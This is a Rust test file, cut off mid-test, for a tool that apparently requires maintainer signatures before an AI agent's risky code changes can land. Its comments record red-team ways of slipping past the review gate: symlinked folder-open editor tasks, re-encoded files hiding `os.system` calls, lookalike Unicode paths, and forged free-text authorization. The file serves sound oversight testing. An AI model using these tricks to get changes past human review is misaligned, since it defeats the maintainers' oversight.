//! The repository policy read from the protected base (issue 20 §2–§3), on
//! a real bare remote with the server hook: roles that must sign, each by a
//! different key; risk floors; trust material that a proposal cannot bring
//! with it; and what the gates say when no policy is in force.

#[path = "support/policy_team.rs"]
mod policy_team;
mod support;

use std::path::{Path, PathBuf};

use policy_team::*;
use support::*;

/// The client's pre-push gate applies the remote's policy before anything
/// is pushed (issue 20 §3: verified at every gate): the managed hook denies
/// with the same reason the server would give, and no `remote:` line shows
/// that the server was ever asked.
#[test]
fn the_local_pre_push_gate_applies_the_remotes_policy_before_anything_is_pushed() {
    let t = Team::new();
    let (lineage, _, _) = t.review_encrypt();
    t.sign(&t.agent, &lineage);
    t.client_denies("main", || assert_eq!(t.server_main(), t.before));
    // Once the maintainer signed, the hook lets the same push through.
    t.sign(&t.alice, &lineage);
    probity_ok(t.f.root(), &["publish"]);
    t.f.git(&[
        "push",
        "-q",
        "--atomic",
        "origin",
        "main",
        "refs/notes/probity",
    ])
    .unwrap();
    assert_ne!(t.server_main(), t.before);
}

#[test]
fn a_high_risk_change_needs_a_reviewer_and_a_maintainer_by_different_keys() {
    let t = Team::new();
    let (lineage, started, c) = t.review_encrypt();
    // The base's policy rates the change high at start.
    assert_risk(&started, "high", "policy_floor:path#0");
    // The agent signs its own review: it holds the reviewer role only.
    t.signed_yet_unmet(&t.agent, &lineage, &["maintainer", ALICE]);
    // The maintainer signs too: the change lands.
    t.signed_lands(&t.alice, &lineage, c);
}

#[test]
fn one_key_holding_two_roles_signs_for_one() {
    let t = Team::new();
    let (lineage, _, _) = t.review_encrypt();
    // Alice's key is a maintainer's; signing twice with it fills no
    // second role.
    t.sign(&t.alice, &lineage);
    t.signed_yet_unmet(&t.alice, &lineage, &["reviewer"]);
}

#[test]
fn a_medium_change_lands_with_a_reviewers_signature_and_not_without() {
    let t = Team::new();
    let (lineage, started, c) = t.review_medium();
    assert_eq!(started["risk_level"], "medium", "{started}");
    t.roles_unmet(&[]);
    t.signed_lands(&t.agent, &lineage, c);
}

#[test]
fn a_proposal_that_makes_its_author_a_maintainer_is_judged_under_the_base() {
    let t = Team::new();
    // The agent lists its own key as the maintainer's and drops every
    // signature requirement, in the change itself.
    let signers = format!(
        "{ALICE} {}\n{AGENT} {}\n",
        public(&t.agent),
        public(&t.agent)
    );
    t.f.write(".probity/allowed_signers", signers).unwrap();
    t.f.write(
        ".probity/policy.json",
        r#"{"schema":"probity-policy/v1","allowed_signers":".probity/allowed_signers"}"#,
    )
    .unwrap();
    let (lineage, started) = t.review();
    // A change to the policy's directory is high under the base's policy.
    assert_risk(&started, "high", "policy_floor:policy_dir");
    commit_all(&t.f, "relax the policy");
    t.signed_yet_unmet(&t.agent, &lineage, &["maintainer"]);
}

#[test]
fn the_ci_gate_reads_the_policy_from_the_target_branch() {
    let t = Team::new();
    let (lineage, _, head) = t.review_medium();
    probity_ok(t.f.root(), &["publish"]);
    let gate = |cwd: &Path| {
        probity(
            cwd,
            &notes_pre_pr_args("origin/main", &["--head", &head, "--json"]),
        )
    };
    assert_roles_unmet(&gate(t.f.root()));
    t.sign(&t.agent, &lineage);
    probity_ok(t.f.root(), &["publish"]);
    let g = gate(t.f.root());
    assert_eq!(g.code, 0, "{}{}", g.stdout, g.stderr);
}

#[test]
fn without_a_policy_the_gate_says_which_protections_are_off() {
    let (f, _dir, server) = hooked_origin();
    let inputs = tempfile::tempdir().unwrap();
    write_medium_change(&f);
    approve_live(f.root(), inputs.path());
    commit_all(&f, "more parsing");
    let p = probity_ok(f.root(), &["push", "origin", "main"]);
    assert!(
        p.stderr.contains("role signatures and risk floors are off"),
        "{}",
        p.stderr
    );
    let s = probity_ok(&server, &["policy", "show", "--at", "main", "--json"]);
    assert!(s.json["policy"].is_null(), "{}", s.stdout);
    let off: Vec<String> = s.json["off"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap().to_string())
        .collect();
    assert!(
        off.iter().any(|o| o.starts_with("role signatures")),
        "{off:?}"
    );
    assert!(off.iter().any(|o| o.starts_with("risk floors")), "{off:?}");
}

#[test]
fn policy_check_refuses_a_bad_document_and_shows_a_good_one() {
    let t = Team::new();
    let before = store_snapshot(&t.f);
    let bad = input(
        t.inputs.path(),
        "bad.json",
        r#"{"schema":"probity-policy/v1","signatures":{"high":["maintainer"]}}"#,
    );
    let r = probity(t.f.root(), &["policy", "check", &bad, "--json"]);
    r.assert_refused(3, "policy_invalid");
    assert!(r.stdout.contains("does not declare"), "{}", r.stdout);
    assert_eq!(store_snapshot(&t.f), before);
    let r = probity_ok(t.f.root(), &["policy", "check", "--json"]);
    assert_eq!(r.json["policy"]["roles"]["maintainer"][0], ALICE);
    let s = probity_ok(t.f.root(), &["policy", "show"]);
    assert!(
        s.stdout
            .contains("high-risk approvals signed by reviewer + maintainer"),
        "{}",
        s.stdout
    );
    let schema = probity(t.f.root(), &["schema", "policy"]);
    assert_eq!(schema.code, 0);
    assert_eq!(
        schema.json["$id"],
        "https://probity.dev/schemas/probity-policy/v1"
    );
}

#[test]
fn a_review_frozen_before_the_policy_landed_is_judged_by_its_floor_after_a_rebase() {
    // The agent reviews a change that hard-codes a credential while the
    // base has no policy: medium, one lens.
    let (f, _dir, server) = hooked_origin();
    let inputs = tempfile::tempdir().unwrap();
    f.write(
        "src/cfg.rs",
        "pub const KEY: &str = \"AKIAABCDEFGHIJKLMNOP\";\n",
    )
    .unwrap();
    let st = probity(f.root(), &["start"]);
    assert_eq!(st.json["risk_level"], "medium", "{}", st.stdout);
    approve_started(f.root(), inputs.path(), &st.json);
    commit_all(&f, "configure");
    // Meanwhile a maintainer lands the policy from her own clone: literal
    // AWS key ids are high risk.
    let d = tempfile::tempdir().unwrap();
    let other = d.path().join("maintainer");
    alices_clone(&f, &server, &other, &[]);
    std::fs::create_dir_all(other.join(".probity")).unwrap();
    std::fs::write(
        other.join(".probity/policy.json"),
        r#"{"schema":"probity-policy/v1","high_risk":{"content":["AKIA"]}}"#,
    )
    .unwrap();
    approve_live(&other, inputs.path());
    f.git_in(&other, &["add", "-A"]).unwrap();
    f.git_in(&other, &["commit", "-q", "--no-verify", "-m", "policy"])
        .unwrap();
    probity_ok(&other, &["push", "origin", "main"]);
    // The agent rebases onto it: the rebase proof carries the old review,
    // but the server judges its change under the policy now in the base.
    f.git(&["pull", "-q", "--rebase", "origin", "main"])
        .unwrap();
    let before = rev(&f, &server, "main");
    let p = push_denied(&f, &server, "policy_floor_unmet");
    assert!(said(&p).contains("policy_floor:content#0"), "{}", said(&p));
    assert_eq!(rev(&f, &server, "main"), before);
    // The next step it names works: review the rebased commit again, now
    // high (all four lenses), and push.
    let head = rev(&f, f.root(), "HEAD").unwrap();
    let st = probity_ok(f.root(), &["start", "--commit", &head]);
    assert_eq!(st.json["risk_level"], "high", "{}", st.stdout);
    approve_started(f.root(), inputs.path(), &st.json);
    probity_ok(f.root(), &["push", "origin", "main"]);
    assert_eq!(rev(&f, &server, "main"), Some(head));
}

#[test]
fn free_text_authorization_does_not_recover_an_escalation_a_maintainers_signature_does() {
    let t = Team::new();
    write_medium_change(&t.f);
    // The lens escalates; the agent recovers its own escalation, writing
    // the maintainer's name into the free-text authorization.
    let l2 = escalate_and_recover(
        t.f.root(),
        t.inputs.path(),
        "the callers are fine",
        "alice approves (she said so on chat)",
    );
    let st = probity(t.f.root(), &["status", "--lineage", &l2]);
    approve_started(t.f.root(), t.inputs.path(), &st.json);
    let c = commit_all(&t.f, "after the escalation");
    // Its own reviewer signature covers the medium tier, not the act.
    t.signed_yet_unmet(&t.agent, &l2, &["maintainer"]);
    // The maintainer signs the successor: the recovery lands.
    t.signed_lands(&t.alice, &l2, c);
}

/// A dispute is a maintainer's act too (issue 20 §3): the agent disputes
/// its own BLOCKER with free text naming the maintainer, approves, and
/// signs with its reviewer key. Under a policy with `authorize` roles the
/// approval rests on the act, so it needs the maintainer's signature.
#[test]
fn a_self_disputed_blocker_needs_the_maintainers_signature() {
    let t = Team::new();
    write_medium_change(&t.f);
    let st = probity_ok(t.f.root(), &["start"]);
    let lineage = string_at(&st.json, "lineage_id");
    let blocker = input(
        t.inputs.path(),
        "blocker.json",
        r#"{"findings":[{"location":"src/parser.rs:3","severity":"BLOCKER","claim":"more() panics on empty input","proof_refs":["test_more fails on the candidate"],"evidence_class":"deterministic","causal_disposition":"introduced"}],"evidence":["ran test_more on base and candidate"]}"#,
    );
    let judged = probity(
        t.f.root(),
        &["finalize", "--lineage", &lineage, "--result", &blocker],
    );
    assert_eq!(
        judged.json["state"],
        "correction_required",
        "{}",
        said(&judged)
    );
    let finding = judged.json["findings"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let why = input(t.inputs.path(), "why.txt", "a false positive\n");
    let d = probity(
        t.f.root(),
        &[
            "dispute",
            "--lineage",
            &lineage,
            "--finding",
            &finding,
            "--evidence",
            &why,
            "--reason",
            "not a real panic",
            "--actor",
            "alice",
            "--authorization",
            "alice approves (she said so on chat)",
        ],
    );
    assert_eq!(d.code, 0, "{}", said(&d));
    let ev = input(t.inputs.path(), "ev.txt", "tests passed\n");
    let done = probity(
        t.f.root(),
        &["finalize", "--lineage", &lineage, "--evidence", &ev],
    );
    assert_eq!(done.json["state"], "approved", "{}", said(&done));
    let c = commit_all(&t.f, "more parsing");
    // Its own reviewer signature covers the medium tier, not the act.
    t.signed_yet_unmet(&t.agent, &lineage, &["maintainer"]);
    // The maintainer's signature over the review binds the dispute (its
    // finding, evidence hash, reason and authorization are in the record
    // the statement names): it lands.
    t.sign(&t.alice, &lineage);
    let p = probity(t.f.root(), &["push", "origin", "main"]);
    assert_eq!(p.code, 0, "{}", said(&p));
    assert_eq!(t.server_main(), Some(c));
}

/// Alice's clone under `dir`: she fetches the agent's branch and its
/// notes, as she would a teammate's pull request, imports the review of
/// `c` and signs `lineage` with her own key there. Returns her clone.
fn alice_signs_in_her_clone(t: &Team, dir: &Path, lineage: &str, c: &str) -> PathBuf {
    let mine = dir.join("alice");
    let key = ("probity.signingKey", t.alice.to_str().unwrap());
    alices_clone(&t.f, &t.server, &mine, &[key]);
    let agent = t.f.root().to_str().unwrap();
    t.f.git_in(
        &mine,
        &[
            "fetch",
            "-q",
            agent,
            "main:refs/remotes/agent/main",
            "refs/notes/probity:refs/notes/probity",
        ],
    )
    .unwrap();
    t.f.git_in(&mine, &["merge", "-q", "--ff-only", "agent/main"])
        .unwrap();
    let note =
        t.f.git_in(&mine, &["notes", "--ref=probity", "show", c])
            .unwrap();
    let bundle = t.inputs.path().join("bundle.json");
    std::fs::write(&bundle, note).unwrap();
    probity_ok(&mine, &["bundle", "import", bundle.to_str().unwrap()]);
    output_ok(
        std::process::Command::new(env!("CARGO_BIN_EXE_probity"))
            .args(["--cwd", mine.to_str().unwrap()])
            .args(["attest", "--lineage", lineage, "--sign"])
            .env("HOME", t.keys.path()),
    );
    mine
}

#[test]
fn the_maintainer_signs_in_her_own_clone_and_lands_the_change() {
    let t = Team::new();
    let (lineage, _, c) = t.review_encrypt();
    t.sign(&t.agent, &lineage);
    probity_ok(t.f.root(), &["publish"]);
    // Alice signs in her own clone and pushes from there.
    let d = tempfile::tempdir().unwrap();
    let mine = alice_signs_in_her_clone(&t, d.path(), &lineage, &c);
    probity_ok(&mine, &["push", "origin", "main"]);
    assert_eq!(t.server_main(), Some(c));
}

/// Red team round 3 (attempt 64), two clones and one note: a high-risk
/// review needs a reviewer's and a maintainer's signatures. Each signs in
/// their own clone at the same time and publishes; the note on the commit
/// then holds one line per signer, each carrying one signature. The roles
/// are met by the signatures of every line of the note for the lineage,
/// not only by what one line carries.
#[test]
fn two_signers_in_parallel_clones_meet_the_roles_in_one_note() {
    let t = Team::new();
    let (lineage, _, c) = t.review_encrypt();
    probity_ok(t.f.root(), &["publish"]);
    // Alice signs in her own clone and publishes there.
    let d = tempfile::tempdir().unwrap();
    let mine = alice_signs_in_her_clone(&t, d.path(), &lineage, &c);
    // `agent/main` holds the commit, so it is published by range.
    probity_ok(&mine, &["publish", "--range", &format!("{c}~1..{c}")]);
    // Meanwhile the agent, a reviewer, signs in its own clone.
    t.sign(&t.agent, &lineage);
    probity_ok(t.f.root(), &["publish"]);
    // The two notes merged as the notes' own rule merges them.
    t.f.git(&[
        "fetch",
        "-q",
        mine.to_str().unwrap(),
        "refs/notes/probity:refs/notes/probity-alice",
    ])
    .unwrap();
    merge_notes(&t.f, "refs/notes/probity-alice");
    let merged = t.f.git(&["notes", "--ref=probity", "show", &c]).unwrap();
    let lines = String::from_utf8(merged).unwrap();
    assert!(lines.lines().count() >= 2, "{lines}");
    push_main_and_notes(&t.f).unwrap();
    assert_eq!(t.server_main(), Some(c));
}

/// The CI range form judges every update it is given, a tag included: the
/// policy of its OLD commit applies whatever `probity.protectedRefs` says.
#[test]
fn the_ci_range_form_applies_the_policy_to_a_tag_too() {
    let t = Team::new();
    let base = rev(&t.f, t.f.root(), "HEAD").unwrap();
    let (_, _, head) = t.review_medium();
    probity_ok(t.f.root(), &["publish"]);
    let range = format!("{base}..{head}");
    let g = probity(
        t.f.root(),
        &[
            "validate",
            "--gate",
            "pre-receive",
            "--range",
            &range,
            "--ref",
            "refs/tags/v1",
            "--json",
        ],
    );
    assert_roles_unmet(&g);
}

/// A new branch is judged by the server under the policy its default branch
/// holds; the client's pre-push gate must apply the same policy before
/// anything is pushed, whatever git hands the managed hook (the remote's
/// URL as `$2`) and whether or not this clone recorded the remote's
/// default branch (`git remote add` and a push record none). Before, the
/// client looked for `refs/remotes/<URL>/HEAD`, found nothing and let the
/// push through to the server.
#[test]
fn a_new_branch_meets_the_remotes_policy_at_the_client_too() {
    let t = Team::new();
    assert_eq!(rev(&t.f, t.f.root(), "refs/remotes/origin/HEAD"), None);
    t.f.git(&["checkout", "-q", "-b", "feature"]).unwrap();
    let (lineage, _, _) = t.review_encrypt();
    t.sign(&t.agent, &lineage);
    t.client_denies("feature", || {
        assert_eq!(rev(&t.f, &t.server, "refs/heads/feature"), None);
    });
    // Once the maintainer signed, the new branch lands.
    t.sign(&t.alice, &lineage);
    probity_ok(t.f.root(), &["push", "origin", "feature"]);
    assert!(rev(&t.f, &t.server, "refs/heads/feature").is_some());
}

/// The remote's default branch moved to a commit this clone has not
/// fetched: the client cannot read the policy there, says so and what to
/// run, and leaves the judgement to the server, which still refuses.
#[test]
fn a_new_branch_over_an_unfetched_default_branch_is_left_to_the_server_and_said() {
    let t = Team::new();
    // A tag at the base both sides hold: the new branch is measured
    // against it (one reviewed commit), whatever main does.
    t.f.git(&["push", "-q", "origin", "main:refs/tags/base"])
        .unwrap();
    // The server's main moves on (a teammate's push), unseen here.
    let tree = rev(&t.f, &t.server, "main^{tree}").unwrap();
    let moved = String::from_utf8(
        t.f.git_in(
            &t.server,
            &["commit-tree", &tree, "-p", "main", "-m", "a teammate's"],
        )
        .unwrap(),
    )
    .unwrap();
    t.f.git_in(&t.server, &["update-ref", "refs/heads/main", moved.trim()])
        .unwrap();
    t.f.git(&["checkout", "-q", "-b", "feature"]).unwrap();
    let (lineage, _, _) = t.review_encrypt();
    t.sign(&t.agent, &lineage);
    probity_ok(t.f.root(), &["hooks", "install"]);
    probity_ok(t.f.root(), &["publish"]);
    let err =
        t.f.git(&[
            "push",
            "--atomic",
            "origin",
            "feature",
            "refs/notes/probity",
        ])
        .unwrap_err()
        .to_string();
    assert!(
        err.contains(&format!(
            "default branch is at {}, which this clone has not fetched",
            moved.trim()
        )),
        "{err}"
    );
    assert!(err.contains("run `git fetch"), "{err}");
    // The server judged it, under the policy its main holds.
    assert!(err.contains("remote:"), "{err}");
    assert!(err.contains("roles_unmet"), "{err}");
    assert_eq!(rev(&t.f, &t.server, "refs/heads/feature"), None);
}

/// Red team, finding 1: a protected branch made at a commit from before
/// the policy delivers nothing, so its creation is allowed; every push to
/// it after was judged under that commit's policy (none), and unsigned
/// code landed on a protected branch. The default branch's policy governs
/// every protected ref, besides the ref's own old tip's.
#[test]
fn a_protected_branch_made_before_the_policy_still_answers_to_the_default_branchs() {
    let t = Team::new();
    assert_eq!(rev(&t.f, t.f.root(), "main~1:.probity/policy.json"), None);
    t.f.git(&[
        "push",
        "-q",
        "--no-verify",
        "origin",
        "main~1:refs/heads/old",
    ])
    .unwrap();
    t.f.git(&["checkout", "-q", "-b", "old", "main~1"]).unwrap();
    let (lineage, _, c) = t.review_medium();
    probity_ok(t.f.root(), &["publish"]);
    let push_old = || {
        t.f.git(&[
            "push",
            "-q",
            "--no-verify",
            "--atomic",
            "origin",
            "old",
            "refs/notes/probity",
        ])
    };
    let err = push_old().unwrap_err().to_string();
    assert!(err.contains("roles_unmet"), "the server said: {err}");
    assert_ne!(rev(&t.f, &t.server, "refs/heads/old"), Some(c.clone()));
    // Signed by a reviewer, as the default branch's policy asks, it lands.
    t.sign(&t.agent, &lineage);
    probity_ok(t.f.root(), &["publish"]);
    push_old().unwrap();
    assert_eq!(rev(&t.f, &t.server, "refs/heads/old"), Some(c));
}

/// Two clones, one note (red team round 11, 04a): the maintainer signs the
/// agent's review in her own clone and publishes; the agent merges her
/// notes into its own (its store never sees her signature) and runs
/// `probity push`. The client's pre-check counts the note's signatures as
/// the server does, so the push lands instead of being refused on the
/// client alone.
#[test]
fn a_signature_merged_from_a_teammates_notes_counts_before_the_push() {
    let t = Team::new();
    let (lineage, _, y) = t.review_encrypt();
    t.sign(&t.agent, &lineage);
    probity_ok(t.f.root(), &["publish"]);
    let (_dir, alice) = clone_as(&t.f, &t.server, "alice");
    let agent = t.f.root().to_str().unwrap();
    let fetch = [
        "fetch",
        "-q",
        agent,
        "main:refs/remotes/agent/main",
        "+refs/notes/probity:refs/notes/probity",
    ];
    t.f.git_in(&alice, &fetch).unwrap();
    t.f.git_in(&alice, &["merge", "-q", "--ff-only", "agent/main"])
        .unwrap();
    let note = support::transport::note(&t.f, &alice, &y).unwrap();
    let bundle = t.inputs.path().join("bundle.json");
    std::fs::write(&bundle, note).unwrap();
    probity_ok(&alice, &["bundle", "import", bundle.to_str().unwrap()]);
    sign_with(&alice, &t.alice, t.keys.path(), &lineage);
    probity_ok(&alice, &["publish", "--range", &format!("{y}~1..{y}")]);
    let alice_notes = [
        "fetch",
        "-q",
        alice.to_str().unwrap(),
        "refs/notes/probity:refs/notes/probity-alice",
    ];
    t.f.git(&alice_notes).unwrap();
    merge_notes(&t.f, "refs/notes/probity-alice");
    t.lands(y);
}

/// A folder-open task at `editor/tasks.json` running `tools/build.py`
/// (nothing VS Code runs until `.vscode` names it).
fn editor_task(t: &Team) {
    task_at(t, "editor/tasks.json");
}

/// A folder-open task at `path` running `tools/build.py`, and the script.
fn task_at(t: &Team, path: &str) {
    let tasks = r#"{"version":"2.0.0","tasks":[{"label":"b","type":"shell","command":"python3 tools/build.py","runOptions":{"runOn":"folderOpen"}}]}"#;
    t.f.write(path, tasks).unwrap();
    t.f.write("tools/build.py", "print('build')\n").unwrap();
}

/// Red team round 12, 04 (D-R165): a folder-open task at
/// `editor/tasks.json` is nothing VS Code runs, so the agent lands it
/// alone; a symbolic link `.vscode -> editor` then puts it where VS Code
/// runs it. Under risk policy v7 the link is rated as the directory it
/// stands for (high: the maintainer must sign), as writing
/// `.vscode/tasks.json` itself is.
#[test]
fn a_link_that_puts_a_task_where_the_editor_runs_it_needs_the_maintainer() {
    let t = Team::new();
    editor_task(&t);
    let (lineage, started, c) = t.review_commit("editor settings");
    assert_risk(&started, "medium", "code_change");
    t.signed_lands(&t.agent, &lineage, c);
    std::os::unix::fs::symlink("editor", t.f.root().join(".vscode")).unwrap();
    let (lineage, started, _) = t.review_commit("link .vscode");
    high_yet_agent_alone_is_refused(&t, &lineage, &started);
    t.signed_lands(&t.alice, &lineage, rev_parse(&t.f, "HEAD"));
}

/// Round 12, 04b (D-R166): once the maintainer approved the link
/// `.vscode -> editor`, an edit of the script its folder-open task runs is
/// `auto_run_config` as under a real `.vscode/`: the configuration is read
/// through the link, as VS Code reads it.
#[test]
fn a_script_a_linked_task_runs_needs_the_maintainer() {
    let t = Team::new();
    editor_task(&t);
    std::os::unix::fs::symlink("editor", t.f.root().join(".vscode")).unwrap();
    let (lineage, _, c) = t.review_commit("editor settings, linked");
    t.sign(&t.agent, &lineage);
    t.signed_lands(&t.alice, &lineage, c);
    t.f.write("tools/build.py", "print('build')\nimport os\n")
        .unwrap();
    let (lineage, started, _) = t.review_commit("build");
    high_yet_agent_alone_is_refused(&t, &lineage, &started);
}

/// Replaces the directory `dir` of the worktree by a symbolic link to
/// `target`.
fn dir_to_link(t: &Team, dir: &str, target: &str) {
    let at = t.f.root().join(dir);
    std::fs::remove_dir_all(&at).unwrap();
    std::os::unix::fs::symlink(target, at).unwrap();
}

/// The maintainer approved a link `.vscode -> target` while `tools/cur`
/// was a directory: it lands with both signatures (high, as every link at
/// `.vscode` is under v7). The script a task would run is there already.
fn approved_vscode_link(t: &Team, target: &str) {
    t.f.write("tools/cur/README", "current tools\n").unwrap();
    t.f.write("tools/build.py", "print('build')\n").unwrap();
    t.f.write("tools/vscode/extensions.json", "{\"recommendations\":[]}\n")
        .unwrap();
    std::os::unix::fs::symlink(target, t.f.root().join(".vscode")).unwrap();
    let (lineage, started, c) = t.review_commit("editor link");
    assert_risk(&started, "high", "auto_run_config");
    t.sign(&t.agent, &lineage);
    t.signed_lands(&t.alice, &lineage, c);
}

/// Red team round 13, 01 (D-R167): with `.vscode -> tools/cur/../vscode`
/// approved, the agent turns `tools/cur` into a link `deep/er` and adds
/// `tools/deep/vscode/tasks.json`. A checkout's `.vscode` is then
/// `tools/deep/er/..` + `vscode`: the folder-open task is live. The link
/// target was resolved lexically (`tools/vscode`), so the step was
/// medium and landed with the agent's signature alone; under risk policy
/// v8 links resolve as a checkout resolves them. The maintainer's
/// signature still lands it.
#[test]
fn a_link_that_moves_where_an_approved_link_points_needs_the_maintainer() {
    let t = Team::new();
    approved_vscode_link(&t, "tools/cur/../vscode");
    dir_to_link(&t, "tools/cur", "deep/er");
    t.f.write("tools/deep/er/README", "deeper tools\n").unwrap();
    task_at(&t, "tools/deep/vscode/tasks.json");
    let (lineage, started, _) = t.review_commit("deeper tools");
    high_yet_agent_alone_is_refused(&t, &lineage, &started);
    t.signed_lands(&t.alice, &lineage, rev_parse(&t.f, "HEAD"));
}

/// The same move with the task already in the tree (landed by the agent
/// alone while no link reached it): the step changes only the link
/// `tools/cur`, which every approved `.vscode` link below passes
/// through. Each is high under v8, with or without a `..` after the
/// moved link.
#[test]
fn moving_a_directory_an_approved_link_passes_through_needs_the_maintainer() {
    for (target, link) in [
        ("tools/cur/vscode", "deep"),
        ("tools/cur/../vscode", "deep/er"),
    ] {
        let t = Team::new();
        approved_vscode_link(&t, target);
        t.f.write("tools/deep/er/README", "deeper tools\n").unwrap();
        task_at(&t, "tools/deep/vscode/tasks.json");
        // Nothing runs the task yet: the agent lands it alone.
        let (lineage, started, c) = t.review_commit("deeper tools");
        assert_risk(&started, "medium", "code_change");
        t.signed_lands(&t.agent, &lineage, c);
        dir_to_link(&t, "tools/cur", link);
        let (lineage, started, _) = t.review_commit("move the current tools");
        high_yet_agent_alone_is_refused(&t, &lineage, &started);
        t.signed_lands(&t.alice, &lineage, rev_parse(&t.f, "HEAD"));
    }
}

/// Red team round 14, 07 and 07b (D-R168): `working-tree-encoding` makes
/// a checkout write other bytes than git stores. Plain ASCII written in
/// the worktree under `UTF-16LE` is stored as CJK-looking UTF-8, which
/// the content rules read, and checked out as the ASCII again: a Python
/// `os.system` landed medium. The attribute is high, and so is a file
/// under an attribute already approved.
#[test]
fn a_file_a_checkout_reencodes_cannot_be_shown_free_of_a_rule() {
    let t = Team::new();
    t.f.write(
        ".gitattributes",
        "src/*.py working-tree-encoding=UTF-16LE\n",
    )
    .unwrap();
    let (lineage, started, c) = t.review_commit("encodings");
    assert_risk(&started, "high", "unscanned_content");
    t.sign(&t.agent, &lineage);
    t.signed_yet_unmet(&t.agent, &lineage, &["maintainer"]);
    t.signed_lands(&t.alice, &lineage, c);
    reencoded_spawn_needs_the_maintainer(&t, "src/run.py");
}

/// `path` written as plain ASCII under an approved re-encoding attribute
/// (stored as other bytes than a checkout writes): `unscanned_content`,
/// high, and the agent's own signature is refused.
fn reencoded_spawn_needs_the_maintainer(t: &Team, path: &str) {
    // Even length: every byte pair is one UTF-16 code unit.
    t.f.write(path, "import os; os.system(\"id\")  ").unwrap();
    let (lineage, started, _) = t.review_commit("run");
    assert_risk(&started, "high", "unscanned_content");
    let landed = t.server_main();
    t.sign(&t.agent, &lineage);
    t.push_denied("roles_unmet");
    assert_eq!(t.server_main(), landed, "{path}");
}

/// Red team round 14, 01 (D-R168): on a case-insensitive file system
/// (macOS, Windows) `.vſcode` (U+017F folds to `s`) opens as `.vscode`,
/// and `toolſ/build.py` as the `tools/build.py` an approved task runs:
/// each is rated as the path the file system reads.
#[test]
fn a_lookalike_a_folding_file_system_reads_as_a_listed_path_is_rated_as_it() {
    for path in [".vſcode/tasks.json", ".VSCODE./tasks.json"] {
        let t = Team::new();
        task_at(&t, path);
        let (lineage, started, _) = t.review_commit("editor settings");
        high_yet_agent_alone_is_refused(&t, &lineage, &started);
    }
    let t = Team::new();
    task_at(&t, ".vscode/tasks.json");
    let (lineage, _, c) = t.review_commit("editor settings");
    t.sign(&t.agent, &lineage);
    t.signed_lands(&t.alice, &lineage, c);
    t.f.write("toolſ/build.py", "import os\n").unwrap();
    let (lineage, started, _) = t.review_commit("build");
    high_yet_agent_alone_is_refused(&t, &lineage, &started);
}

/// Red team round 14, 02 (D-R168): an approved `.vscode ->
/// ../<clone>/tools/vscode` leaves the repository and comes back in
/// through the clone's own directory name, which no tree holds: a task
/// added at `tools/vscode/tasks.json` is where a default clone's VS Code
/// runs it.
#[test]
fn a_link_that_climbs_out_and_back_in_needs_the_maintainer() {
    let t = Team::new();
    let clone = t.f.root().file_name().unwrap().to_str().unwrap();
    let target = format!("../{clone}/tools/vscode");
    t.f.write("tools/build.py", "print('build')\n").unwrap();
    std::os::unix::fs::symlink(&target, t.f.root().join(".vscode")).unwrap();
    let (lineage, _, c) = t.review_commit("editor link");
    t.sign(&t.agent, &lineage);
    t.signed_lands(&t.alice, &lineage, c);
    task_at(&t, "tools/vscode/tasks.json");
    let (lineage, started, _) = t.review_commit("task");
    high_yet_agent_alone_is_refused(&t, &lineage, &started);
    t.signed_lands(&t.alice, &lineage, rev_parse(&t.f, "HEAD"));
    // The configuration is read through the same way back in: an edit of
    // the script the task runs is the task's.
    t.f.write("tools/build.py", "import os\n").unwrap();
    let (lineage, started, _) = t.review_commit("build");
    high_yet_agent_alone_is_refused(&t, &lineage, &started);
}

/// A task runs `tools/build.py`, and `tools` is an approved link to
/// `scripts`: an edit of `scripts/build.py` is an edit of what the task
/// runs (D-R168: a configuration's references are matched at every path
/// a changed file is reached at).
#[test]
fn a_script_a_task_runs_through_a_linked_directory_needs_the_maintainer() {
    let t = Team::new();
    t.f.write(
        ".vscode/tasks.json",
        r#"{"version":"2.0.0","tasks":[{"label":"b","type":"shell","command":"python3 tools/build.py","runOptions":{"runOn":"folderOpen"}}]}"#,
    )
    .unwrap();
    t.f.write("scripts/build.py", "print('build')\n").unwrap();
    std::os::unix::fs::symlink("scripts", t.f.root().join("tools")).unwrap();
    let (lineage, _, c) = t.review_commit("editor settings");
    t.sign(&t.agent, &lineage);
    t.signed_lands(&t.alice, &lineage, c);
    t.f.write("scripts/build.py", "import os\n").unwrap();
    let (lineage, started, _) = t.review_commit("build");
    high_yet_agent_alone_is_refused(&t, &lineage, &started);
}

/// Red team round 15, 03 (D-R169): `export-subst` makes `git archive`
/// (a forge's source download, what pip fetches) write the commit's
/// message where a file says `$Format:%B$`: no rule reads a message. The
/// attribute is high, as a re-encoding one is.
#[test]
fn an_attribute_an_archive_expands_is_high() {
    let t = Team::new();
    t.f.write(".gitattributes", "src/*.py export-subst\n")
        .unwrap();
    t.f.write("src/run.py", "$Format:%B$\n").unwrap();
    let (lineage, started, _) = t.review_commit("version stamp");
    assert_risk(&started, "high", "unscanned_content");
    let landed = t.server_main();
    t.sign(&t.agent, &lineage);
    t.push_denied("roles_unmet");
    assert_eq!(t.server_main(), landed);
}

/// Red team round 15, 02 (D-R169): with an approved attribute line whose
/// pattern holds a bracket expression git reads otherwise than v9's first
/// matcher did (`[[:alpha:]]`, `[!]]`, `[\]u]`), a file under it stored
/// re-encoded was medium. Such a pattern may match every path now.
#[test]
fn a_file_under_an_approved_bracket_pattern_cannot_be_shown_free() {
    for pattern in [r"lib/*.[[:alpha:]]y", r"lib/r[!]]n.py", r"lib/r[\]u]n.py"] {
        let t = Team::new();
        t.f.write(
            ".gitattributes",
            format!("{pattern} working-tree-encoding=UTF-16LE\n"),
        )
        .unwrap();
        let (lineage, _, c) = t.review_commit("encodings");
        t.sign(&t.agent, &lineage);
        t.signed_lands(&t.alice, &lineage, c);
        reencoded_spawn_needs_the_maintainer(&t, "lib/run.py");
    }
}

/// Red team round 15, 05 (D-R169): an approved `.vscode ->
/// /proc/self/cwd/tools/vscode` (a process at the repository's root
/// resolves it into the checkout) with a task there: the configuration
/// read through links cannot follow an absolute target, so the script the
/// task runs was medium to edit. A configuration behind such a link is
/// taken as unread: every changed file may be one it names.
#[test]
fn a_script_a_task_behind_an_absolute_link_runs_needs_the_maintainer() {
    let t = Team::new();
    t.f.write("tools/build.py", "print('build')\n").unwrap();
    task_at(&t, "tools/vscode/tasks.json");
    std::os::unix::fs::symlink("/proc/self/cwd/tools/vscode", t.f.root().join(".vscode")).unwrap();
    let (lineage, _, c) = t.review_commit("editor link");
    t.sign(&t.agent, &lineage);
    t.signed_lands(&t.alice, &lineage, c);
    t.f.write("tools/build.py", "import os\n").unwrap();
